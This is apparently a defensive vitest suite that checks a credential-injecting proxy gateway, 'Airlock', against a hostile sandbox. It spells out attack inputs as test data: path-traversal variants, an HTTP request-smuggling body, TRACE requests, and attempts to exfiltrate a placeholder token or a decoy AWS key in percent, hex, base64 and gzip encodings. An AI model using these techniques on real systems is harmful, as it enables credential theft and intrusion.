// A secret goes only where its grant says, in the form its grant says, and never comes back: a
// hostile sandbox against the real gateway and an upstream that echoes everything it receives.
// Each attack must fail, the secret must appear nowhere it should not (upstream bytes, answers,
// events), the gateway must keep serving, and the attempt must be in the log.
import zlib from 'node:zlib';
import { beforeEach, describe, expect, it } from 'vitest';
import { exchange, request, tlsThrough } from '../helpers/gateway-client.js';
import { FILES_SECRET, gatewayUnderAttackForFile, type GatewayUnderAttack, SECRET } from '../helpers/gateway-under-attack.js';
import { readableSecret } from '../helpers/secret-forms.js';

let attack: GatewayUnderAttack;
const crashes = gatewayUnderAttackForFile((started) => (attack = started));

/** The secret in none of its forms: not as is, base64 (any alignment), hex, percent-encoded. */
function expectNoSecret(text: string, secret = SECRET): void {
  expect(readableSecret(text, [secret])).toBeUndefined();
}

/** Where a secret went upstream since the test began: the method and target of each request that carried it. */
let mark = 0;
beforeEach(() => {
  mark = attack.upstream.received.length;
});
function requestsCarrying(secret: string): string[] {
  return attack.upstream.received.slice(mark).filter((r) => JSON.stringify(r).includes(secret)).map((r) => `${r.method} ${r.url}`);
}

describe('the secret goes only where the grant says', () => {
  it('dot-segments, in every spelling, never carry the secret outside the grant\'s path; the normalised path is what is sent', async () => {
    const t = await attack.task({ grants: [{ pathPrefix: '/v1/' }] });
    const attempts = ['/v1/../admin', '/v1/%2e%2e/admin', '/v1/%2E./admin', '/v1/.%2E/admin', '/v1//../admin', '/v1/..%2fadmin', '/v1/..%2Fadmin', '/v1/%252e%252e/admin', '/v1/..%5cadmin', '/v1\\..\\admin', '/v1/./../admin', '/v1-admin', '/v1/%00/../../admin'];
    const answers: Record<string, number> = {};
    for (const path of attempts) {
      const secure = await tlsThrough(attack.port, t.auth, 'echo.vendor.test', t.ca);
      const answer = await exchange(secure, `GET ${path} HTTP/1.1\r\nHost: echo.vendor.test\r\nAuthorization: Bearer ${t.env.VENDOR_TOKEN}\r\nConnection: close\r\n\r\n`);
      answers[path] = Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1]);
    }
    expect(Object.values(answers).every((status) => status === 400 || status === 403)).toBe(true);
    expect(requestsCarrying(SECRET)).toEqual([]);
    // Inside the prefix, the path goes upstream normalised: what was checked is what is sent.
    const secure = await tlsThrough(attack.port, t.auth, 'echo.vendor.test', t.ca);
    expect((await request(secure, { path: '/v1/./x/../invoices//2024', headers: { Host: 'echo.vendor.test', Authorization: `Bearer ${t.env.VENDOR_TOKEN}` } })).status).toBe(200);
    expect(requestsCarrying(SECRET)).toEqual(['GET /v1/invoices/2024']);
    expect(t.of('cred.denied').length + t.of('net.denied').filter((e) => e.decision?.rule === 'request-target').length).toBe(attempts.length);
    expect(crashes.failures).toEqual([]);
  });

  it('TRACE (which echoes the request back) and absolute or authority targets in the tunnel are refused; the secret never goes', async () => {
    const t = await attack.task({ grants: [{}] });
    const auth = `Authorization: Bearer ${t.env.VENDOR_TOKEN}`;
    for (const [line, status] of [
      ['TRACE /v1/x HTTP/1.1', 405],
      ['GET https://echo.vendor.test/v1/x HTTP/1.1', 400],
      ['GET http://other.vendor.test/v1/x HTTP/1.1', 400],
      ['OPTIONS * HTTP/1.1', 400],
      ['CONNECT other.vendor.test:443 HTTP/1.1', 405],
    ] as const) {
      const secure = await tlsThrough(attack.port, t.auth, 'echo.vendor.test', t.ca);
      const answer = await exchange(secure, `${line}\r\nHost: echo.vendor.test\r\n${auth}\r\nConnection: close\r\n\r\n`);
      expect(answer, line).toMatch(new RegExp(`^HTTP/1\\.1 ${status}`));
      expectNoSecret(answer);
    }
    expect(requestsCarrying(SECRET)).toEqual([]);
    expect(t.of('net.denied')).toHaveLength(5);
  });

  it('a smuggled second request in a GET body stays body: the upstream reads exactly one request, framed by Airlock', async () => {
    const t = await attack.task({ grants: [{ methods: ['GET'], pathPrefix: '/v1/' }] });
    // A GET with a chunked body: passed on without framing, its body would be a second request upstream.
    const smuggled = `DELETE /admin/users HTTP/1.1\r\nHost: echo.vendor.test\r\nAuthorization: Bearer ${t.env.VENDOR_TOKEN}\r\n\r\n`;
    const secure = await tlsThrough(attack.port, t.auth, 'echo.vendor.test', t.ca);
    const answer = await exchange(secure, `GET /v1/in HTTP/1.1\r\nHost: echo.vendor.test\r\nAuthorization: Bearer ${t.env.VENDOR_TOKEN}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 200/);
    const upstream = attack.upstream.received.slice(mark);
    expect(upstream.map((r) => `${r.method} ${r.url}`)).toEqual(['GET /v1/in']);
    expect(upstream[0]!.body).toBe(smuggled);
    expect(attack.upstream.raw.find((r) => r.startsWith('GET /v1/in HTTP/1.1'))).toMatch(/\r\ntransfer-encoding: chunked\r\n/i);
  });

  it('every placeholder is handled: a second one for another host refuses the request; one in the query is verified, swapped and removed', async () => {
    const t = await attack.task({ grants: [{}, { credential: 'files-api', env: 'FILES_KEY' }] });
    const before = attack.upstream.received.length;
    for (const headers of [
      `Authorization: Bearer ${t.env.VENDOR_TOKEN}\r\nX-Extra: ${t.env.FILES_KEY}`,
      `Authorization: Bearer ${t.env.VENDOR_TOKEN}\r\nCookie: a=1; k=${t.env.FILES_KEY}`,
      `X-Extra: ${t.env.FILES_KEY}\r\nAuthorization: Bearer ${t.env.VENDOR_TOKEN}`,
      `Authorization: Bearer ${t.env.VENDOR_TOKEN}\r\nX-B64: ${Buffer.from(t.env.FILES_KEY!).toString('base64')}`,
    ]) {
      const secure = await tlsThrough(attack.port, t.auth, 'echo.vendor.test', t.ca);
      expect(await exchange(secure, `GET /v1/x HTTP/1.1\r\nHost: echo.vendor.test\r\n${headers}\r\nConnection: close\r\n\r\n`)).toMatch(/^HTTP\/1\.1 403/);
    }
    const secure = await tlsThrough(attack.port, t.auth, 'echo.vendor.test', t.ca);
    const viaQuery = await exchange(secure, `GET /v1/x?a=1&key=${encodeURIComponent(t.env.VENDOR_TOKEN!)}&b=2 HTTP/1.1\r\nHost: echo.vendor.test\r\nConnection: close\r\n\r\n`);
    expect(viaQuery).toMatch(/^HTTP\/1\.1 200/);
    const seen = attack.upstream.received.slice(before);
    expect(seen.map((r) => [r.url, r.headers.authorization])).toEqual([['/v1/x?a=1&b=2', `Bearer ${SECRET}`]]);
    expect(JSON.stringify(seen)).not.toContain(t.env.VENDOR_TOKEN!.slice(20, 60));
    expect(requestsCarrying(FILES_SECRET)).toEqual([]);
    expect(t.of('cred.misuse').filter((e) => !e.data.reflected)).toHaveLength(4);
  });

  it('a credential host typed in another case with a trailing dot is the same host: intercepted, substituted, stored normalised', async () => {
    const info = attack.store.add({ name: 'typed-api', secret: 'typed_SENTINEL_4410aa', hosts: ['ECHO.Vendor.TEST.'], header: 'X-Typed: {secret}', maxTtlMs: 3_600_000 });
    expect(info.hosts).toEqual(['echo.vendor.test']);
    const t = await attack.task({ grants: [{ credential: 'typed-api', env: 'TYPED' }] });
    const secure = await tlsThrough(attack.port, t.auth, 'echo.vendor.test', t.ca);
    expect((await request(secure, { path: '/v1/typed', headers: { Host: 'echo.vendor.test', 'X-Typed': t.env.TYPED! } })).status).toBe(200);
    expect(attack.upstream.received.at(-1)?.headers['x-typed']).toBe('typed_SENTINEL_4410aa');
  });

  it('a Host naming another port than the tunnel\'s is refused (421)', async () => {
    const t = await attack.task({ grants: [{}] });
    const secure = await tlsThrough(attack.port, t.auth, 'echo.vendor.test', t.ca);
    expect(await exchange(secure, `GET /v1/x HTTP/1.1\r\nHost: echo.vendor.test:8443\r\nAuthorization: Bearer ${t.env.VENDOR_TOKEN}\r\nConnection: close\r\n\r\n`)).toMatch(/^HTTP\/1\.1 421/);
    expect(requestsCarrying(SECRET)).not.toContain('GET /v1/x');
  });
});

describe('the secret never comes back to the sandbox', () => {
  it.each(['raw', 'base64', 'base64url', 'hex', 'percent', 'basic', 'header', 'gzip', 'br', 'deflate-gzip', 'split'])('reflected %s: replaced before the sandbox reads it, and logged', async (how) => {
    const t = await attack.task({ grants: [{}] });
    const secure = await tlsThrough(attack.port, t.auth, 'echo.vendor.test', t.ca);
    const answer = await exchange(secure, `GET /v1/reflect/${how} HTTP/1.1\r\nHost: echo.vendor.test\r\nAuthorization: Bearer ${t.env.VENDOR_TOKEN}\r\nAccept-Encoding: gzip, br\r\nConnection: close\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 200/);
    expect(requestsCarrying(SECRET)).toContain(`GET /v1/reflect/${how}`);
    expectNoSecret(answer);
    const body = answer.slice(answer.indexOf('\r\n\r\n') + 4);
    if (how === 'raw' || how === 'split') expect(body).toContain('*'.repeat(SECRET.length));
    const reflected = t.of('cred.misuse').filter((e) => e.data.reflected === true);
    expect(reflected).toHaveLength(1);
    expect(reflected[0]).toMatchObject({ identity: { credential: 'vendor-api' } });
    expect(JSON.stringify(attack.events)).not.toContain(SECRET);
  });

  it('a response in an encoding Airlock cannot decode is refused, not passed on unchecked', async () => {
    const t = await attack.task({ grants: [{}] });
    const secure = await tlsThrough(attack.port, t.auth, 'echo.vendor.test', t.ca);
    const answer = await exchange(secure, `GET /v1/reflect/compress HTTP/1.1\r\nHost: echo.vendor.test\r\nAuthorization: Bearer ${t.env.VENDOR_TOKEN}\r\nConnection: close\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 502[^]*encoded as compress/);
    expectNoSecret(answer);
  });
});

describe('decoys and placeholders are seen through simple encodings', () => {
  const decoy = { label: 'AWS_SECRET_ACCESS_KEY', value: 'wJalrXUtnFEMIK7MDENGbPxRfiCYDECOY1234567' };

  it.each([
    ['in the URL, percent-encoded', (v: string) => ({ path: `/collect?k=${[...v].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}` })],
    ['in a header, base64 inside Basic auth', (v: string) => ({ headers: { Authorization: `Basic ${Buffer.from(`me:${v}`).toString('base64')}` } })],
    ['in a header, hex', (v: string) => ({ headers: { 'X-Data': Buffer.from(v).toString('hex') } })],
    ['in the body, base64url at an odd offset', (v: string) => ({ body: `data=${Buffer.from(`ab${v}`).toString('base64url')}` })],
    ['in a gzip body', (v: string) => ({ body: zlib.gzipSync(`{"key":"${v}"}`), headers: { 'Content-Encoding': 'gzip' } })],
    ['in a deflate body, base64 inside', (v: string) => ({ body: zlib.deflateSync(Buffer.from(v).toString('base64')), headers: { 'Content-Encoding': 'deflate' } })],
  ])('a decoy %s, over plain HTTP: refused and a violation', async (_where, place) => {
    const t = await attack.task({ decoys: [decoy] });
    const spot = place(decoy.value);
    const before = attack.upstream.received.length;
    const socket = await t.bound();
    const body = 'body' in spot ? Buffer.from(spot.body as string | Buffer) : Buffer.alloc(0);
    const headers = Object.entries({ ...('headers' in spot ? spot.headers : {}) }).map(([k, v]) => `${k}: ${v}\r\n`).join('');
    const answer = await exchange(socket, Buffer.concat([Buffer.from(`POST http://plain.vendor.test${'path' in spot ? spot.path : '/collect'} HTTP/1.1\r\nHost: plain.vendor.test\r\nProxy-Authorization: ${t.auth}\r\n${headers}Content-Length: ${body.length}\r\nConnection: close\r\n\r\n`), body]));
    expect(answer).toMatch(/^HTTP\/1\.1 403/);
    expect(attack.upstream.received.length).toBe(before);
    expect(t.of('policy.violation').map((e) => e.data.rule)).toEqual(['decoy']);
  });

  it('the task\'s placeholder sent elsewhere in an encoding (body, base64; plain HTTP; another intercepted host) is misuse', async () => {
    const t = await attack.task({ grants: [{}, { credential: 'files-api', env: 'FILES_KEY' }] });
    const socket = await t.bound();
    const body = JSON.stringify({ stolen: Buffer.from(t.env.VENDOR_TOKEN!).toString('base64') });
    expect(await exchange(socket, `POST http://plain.vendor.test/drop HTTP/1.1\r\nHost: plain.vendor.test\r\nProxy-Authorization: ${t.auth}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`)).toMatch(/^HTTP\/1\.1 403/);
    const secure = await tlsThrough(attack.port, t.auth, 'other.vendor.test', t.ca);
    const answer = await request(secure, { method: 'POST', path: '/upload', headers: { Host: 'other.vendor.test', 'X-Api-Key': t.env.FILES_KEY!, 'Content-Type': 'application/json' }, body: `{"token":"${t.env.VENDOR_TOKEN}"}` });
    expect(answer.status).toBe(403);
    expect(attack.upstream.received.filter((r) => r.url === '/drop' || r.url === '/upload')).toEqual([]);
    expect(t.of('cred.misuse').map((e) => String(e.data.reason))).toEqual([
      expect.stringMatching(/placeholder sent over plain HTTP to plain\.vendor\.test:80 \(base64, in the request body\)/),
      expect.stringMatching(/placeholder \(as is\) in the request body to other\.vendor\.test:443/),
    ]);
  });
});
